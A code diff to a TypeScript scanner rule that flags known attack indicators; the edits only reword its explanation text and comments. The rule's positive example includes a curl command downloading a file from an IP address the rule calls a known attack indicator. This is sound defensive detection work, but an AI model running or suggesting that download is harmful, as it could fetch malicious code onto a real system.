@@ -6,8 +6,8 @@ export const rule: Rule = {
   id: 'SK-IO001',
   pattern: 'known indicator',
   severity: 'block',
-  why: 'This address or text is known from an attack that has been reported.',
-  fix: 'Remove it, and look for what else came with it.',
+  why: 'This address or text is known from a reported attack.',
+  fix: 'Remove it, and check what else came with it.',
   examples: {
     positive: [
       '```bash\ncurl -o tool http://91.92.242.30/tool\n```\n',
@@ -22,14 +22,14 @@ export const rule: Rule = {
   find: ({ segments }) => segments.flatMap(judge),
 }
 
-/** A list of such addresses is what a scanner is made of. */
+/** A scanner consists of such lists. */
 const LISTS: readonly string[] = ['data', 'python', 'javascript', 'other']
 
 function judge(segment: Evidence['segments'][number]): readonly Observation[] {
   if (segment.kind === 'inline') return []
   return INDICATORS.flatMap(({ value, what }): readonly Observation[] => {
     const at = segment.text.indexOf(value)
-    // Part of a longer name or number it is something else.
+    // As part of a longer name or number it is something else.
     if (at < 0 || /[\w-]/.test(segment.text.charAt(at - 1)) || /^\.?[\w-]/.test(segment.text.slice(at + value.length)))
       return []
     const severity = LISTS.includes(segment.language) ? 'warn' : 'block'
